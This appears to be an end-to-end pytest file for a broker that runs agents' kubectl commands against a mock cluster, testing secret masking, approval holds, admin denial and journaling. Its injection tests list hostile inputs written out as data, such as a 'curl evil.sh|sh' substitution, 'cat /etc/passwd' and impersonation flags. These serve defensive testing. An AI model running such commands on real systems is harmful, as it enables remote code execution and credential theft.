"""End to end through ``POST /api/execute`` on the dev stack: the devhost runs function_app.py, the
broker reaches target demo-k8s (kmock over HTTPS) with its managed identity, masks, and journals."""

from __future__ import annotations

import base64
import json
import time

import pytest

from devhost.kubernetes.demo import DEMO_PASSWORD

B64_PASSWORD = base64.b64encode(DEMO_PASSWORD.encode()).decode()
pytestmark = pytest.mark.e2e


def kubectl(api, *argv: str, identity: str = "devin", **extra):
    return api.execute({"target": "demo-k8s", "kubectl": list(argv), **extra}, identity=identity)


@pytest.fixture(scope="module")
def journal(stack):
    from broker.journal import JournalReader, JournalStorage
    from broker.settings import Settings

    storage = JournalStorage.from_settings(Settings(storage_connection_string=stack.env[
        "BROKER_STORAGE_CONNECTION_STRING"]))
    yield JournalReader(storage)
    storage.close()


@pytest.fixture(scope="module")
def web_pod(api) -> str:
    """The demo's web pod that logged secrets and restarted once. Found by that, not by name order:
    other tests on the shared stack scale the deployment, and a new pod's random name may sort first."""
    r = kubectl(api, "get", "pods", "-n", "demo", "-l", "app=web", "-o", "json")
    pods = r.json()["document"]["items"]
    [pod] = [p for p in pods if p["status"]["containerStatuses"][0]["restartCount"] == 1]
    return pod["metadata"]["name"]


def test_list_pods_with_a_selector(api) -> None:
    r = kubectl(api, "get", "pods", "-n", "demo", "-l", "app=web")
    assert r.status_code == 200, r.text
    body = r.json()
    assert [c["name"] for c in body["columns"]] == ["NAME", "READY", "STATUS", "RESTARTS", "AGE"]
    assert body["row_count"] == 3 and all(row[0].startswith("web-") for row in body["rows"])
    assert (body["risk"], body["decision"]["effect"], body["decision"]["rule_id"]) == \
        ("read", "allow", "agents-read-demo-k8s")
    assert kubectl(api, "get", "pods", "-n", "demo", "-l", "app!=web").json()["row_count"] == 0


def test_get_json_yaml_wide_and_describe(api) -> None:
    deployment = kubectl(api, "get", "deployment", "web", "-n", "demo", "-o", "json").json()["document"]
    assert deployment["kind"] == "Deployment" and deployment["spec"]["replicas"] == 3
    yaml_text = kubectl(api, "get", "svc", "-n", "demo", "-o", "yaml").json()["text"]
    assert yaml_text.startswith("apiVersion: v1\nitems:\n") or yaml_text.startswith("apiVersion: v1\nkind: List")
    wide = kubectl(api, "get", "nodes", "-o", "wide").json()
    assert "INTERNAL-IP" in [c["name"] for c in wide["columns"]] and wide["row_count"] == 2
    described = kubectl(api, "describe", "deploy", "web", "-n", "demo").json()
    assert "Replicas:     3 desired" in described["text"] and "document" not in described


@pytest.mark.parametrize("argv", [
    ("get", "secret", "db-credentials", "-n", "demo", "-o", "json"),
    ("get", "secret", "db-credentials", "-n", "demo", "-o", "yaml"),
    ("get", "secrets", "-n", "demo", "-o", "json"),
    ("get", "secrets", "-n", "demo"),
    ("describe", "secret", "db-credentials", "-n", "demo"),
])
def test_reading_the_secret_returns_masked_data(api, journal, argv) -> None:
    r = kubectl(api, *argv)
    assert r.status_code == 200, r.text
    assert DEMO_PASSWORD not in r.text and B64_PASSWORD not in r.text
    body = r.json()
    assert body["risk"] == "read-secret" and body["decision"]["rule_id"] == "agents-read-demo-k8s-secrets"
    record = journal.get(body["record_id"]).record
    stored = json.dumps(record.to_dict(), ensure_ascii=False)
    assert DEMO_PASSWORD not in stored and B64_PASSWORD not in stored
    if argv[-1] == "json" and argv[1] == "secret":
        assert set(body["document"]["data"]) == {"username", "password"}
        assert body["document"]["data"]["password"].startswith("[")
        assert body["masked"]["secret"] >= 2


def test_logs(api, web_pod) -> None:
    r = kubectl(api, "logs", web_pod, "-n", "demo", "--tail", "3")
    body = r.json()
    assert r.status_code == 200 and body["text"].endswith("ready: serving on :80\n")
    assert DEMO_PASSWORD not in r.text and "sk_live_" not in r.text and body["masked"]
    previous = kubectl(api, "logs", web_pod, "-n", "demo", "--previous", "--tail=1").json()
    assert previous["text"] == "fatal: out of memory (limit 128Mi)\n"
    by_label = kubectl(api, "logs", "-l", "app=web", "-n", "demo", "--tail=1", "--since=3h").json()
    assert len(by_label["text"].splitlines()) == 3


def test_the_stand_in_counts_what_can_change_the_cluster(api, stack, web_pod) -> None:
    # what test_changes_need_approval relies on: reads are not counted, an exec stream is
    changes = stack.kubernetes.changes
    assert kubectl(api, "get", "pods", "-n", "demo").status_code == 200
    assert stack.kubernetes.changes == changes
    assert kubectl(api, "exec", web_pod, "-n", "demo", "--", "true").status_code == 200
    assert stack.kubernetes.changes == changes + 1


def test_exec(api, web_pod) -> None:
    r = kubectl(api, "exec", web_pod, "-n", "demo", "--", "sh", "-c", "echo $(id) '; rm -rf /'; exit 4")
    body = r.json()
    assert r.status_code == 200, r.text
    assert body["risk"] == "exec" and body["decision"]["rule_id"] == "agents-exec-demo-k8s"
    assert body["document"]["exit_code"] == 4
    env = kubectl(api, "exec", web_pod, "-n", "demo", "--", "env")
    assert DEMO_PASSWORD not in env.text and "DATABASE_PASSWORD=[secret:" in env.json()["document"]["stdout"]
    literal = kubectl(api, "exec", web_pod, "-n", "demo", "--", "echo", "$(id)", "&&", "`reboot`").json()
    assert literal["document"]["stdout"] == "$(id) && `reboot`\n"


def test_top(api) -> None:
    body = kubectl(api, "top", "pods", "-n", "demo").json()
    assert [c["name"] for c in body["columns"]] == ["NAME", "CPU(cores)", "MEMORY(bytes)"] and body["row_count"] == 3


def test_changes_need_approval(api, stack) -> None:
    """Three changes held for approval (one test, not three parametrized ones: each waited on its
    own). The approval workflow makes the server-side dry run approvers read — the pod deleted is a
    real one, so each dry run is really made — and nothing that could change the cluster is sent."""
    pod = kubectl(api, "get", "pods", "-n", "demo").json()["rows"][0][0]
    changes = [(("scale", "deployment/web", "--replicas=5", "-n", "demo"), "write"),
               (("rollout", "restart", "deployment/web", "-n", "demo"), "write"),
               (("delete", "pod", pod, "-n", "demo"), "destructive")]
    cluster = stack.kubernetes
    before, dry_before = cluster.changes, cluster.dry_runs
    for argv, risk in changes:
        r = kubectl(api, *argv)
        assert r.status_code == 202, (argv, r.text)  # held for an approver (the approval flow: tests/approvals)
        pending = r.json()
        assert (pending["status"], pending["risk"], pending["target"]) == ("pending", risk, "demo-k8s"), argv
        assert cluster.changes == before, argv
    deadline = time.monotonic() + 20
    while cluster.dry_runs < dry_before + len(changes) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert cluster.dry_runs >= dry_before + len(changes), "the approvers' dry runs were not all made"
    assert cluster.changes == before
    assert pod in [row[0] for row in kubectl(api, "get", "pods", "-n", "demo").json()["rows"]]


@pytest.mark.parametrize("argv", [
    ("delete", "namespace", "demo"), ("cordon", "aks-nodepool1-31415926-vmss000000"),
    ("get", "secrets", "-A"), ("exec", "coredns-x", "-n", "kube-system", "--", "ls"),
])
def test_admin_commands_are_denied(api, argv) -> None:
    r = kubectl(api, *argv)
    assert r.status_code == 403 and r.json()["code"] == "policy_denied" and r.json()["risk"] == "admin"


def test_an_unsupported_verb_lists_what_is_supported(api) -> None:
    r = kubectl(api, "port-forward", "svc/web", "8080:80", "-n", "demo")
    assert r.status_code == 400
    problem = r.json()
    assert problem["code"] == "unsupported_verb" and "Supported: get, describe, logs" in problem["detail"]
    assert "exec" in problem["supported_verbs"]


@pytest.mark.parametrize(("argv", "code"), [
    (("get", "pods", "--kubeconfig", "/root/.kube/config"), "refused_argument"),
    (("get", "pods", "--server=https://10.0.0.1:6443"), "refused_argument"),
    (("get", "pods", "-s", "https://10.0.0.1:6443"), "refused_argument"),
    (("get", "pods", "--token", "eyJhbGciOi"), "refused_argument"),
    (("get", "secrets", "--as", "system:admin", "-n", "demo"), "refused_argument"),
    (("get", "pods", "--as-group=system:masters"), "refused_argument"),
    (("get", "pods", "--context", "prod"), "refused_argument"),
    (("get", "pods", "--insecure-skip-tls-verify"), "refused_argument"),
    (("apply", "-f", "/etc/kubernetes/manifests/kube-apiserver.yaml"), "refused_argument"),
    (("delete", "-f", "../secrets.yaml"), "refused_argument"),
    (("get", "--raw", "/api/v1/namespaces/demo/secrets"), "refused_argument"),
    (("get", "pods; cat /etc/passwd"), "invalid_argument"),
    (("get", "pods", "-n", "demo$(curl evil.sh|sh)"), "invalid_argument"),
    (("logs", "web`id`", "-n", "demo"), "invalid_argument"),
    (("exec", "-it", "web", "--", "sh"), "unsupported_flag"),
])
def test_injection_attempts_are_refused_before_anything_runs(api, stack, journal, argv, code) -> None:
    served = stack.kubernetes.served
    r = kubectl(api, *argv)
    assert r.status_code == 400 and r.json()["code"] == code, r.text
    assert stack.kubernetes.served == served
    denied = [s.record for s in journal.recent(limit=5) if s.record.command.get("argv") == list(argv)]
    assert denied and denied[0].event == "execute.denied" and denied[0].outcome["code"] == code


def test_wrong_language_and_stray_manifest(api) -> None:
    r = api.execute({"target": "demo-k8s", "sql": "SELECT 1"})
    assert r.status_code == 400 and r.json()["code"] == "unsupported_command"
    r = api.execute({"target": "demo-postgres", "kubectl": ["get", "pods"]})
    assert r.status_code == 400 and r.json()["code"] == "unsupported_command"
    r = kubectl(api, "get", "pods", manifest={"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x"}})
    assert r.status_code == 400 and r.json()["code"] == "invalid_argument"


def test_the_journal_carries_argv_operation_decision_and_masked_output(api, journal) -> None:
    argv = ["get", "deploy", "web", "-n", "demo", "-o", "json"]
    body = kubectl(api, *argv).json()
    outcome = journal.get(body["record_id"]).record
    assert outcome.event == "execute.outcome" and outcome.target == "demo-k8s"
    assert outcome.command == {"language": "kubectl", "argv": argv}
    assert outcome.command_digest.startswith("sha256:")
    assert {k: outcome.classification[k] for k in ("risk", "verb", "resource", "namespace", "group")} == \
        {"risk": "read", "verb": "get", "resource": "deployments", "namespace": "demo", "group": "apps"}
    assert outcome.decision["rule_id"] == "agents-read-demo-k8s"
    assert outcome.outcome["operations"] == [{"group": "apps", "version": "v1", "resource": "deployments",
                                              "verb": "get", "namespace": "demo", "name": "web"}]
    assert outcome.response["document"]["metadata"]["name"] == "web"
    intent = journal.get(outcome.outcome["intent"]).record
    assert intent.event == "execute.intent" and intent.command == outcome.command
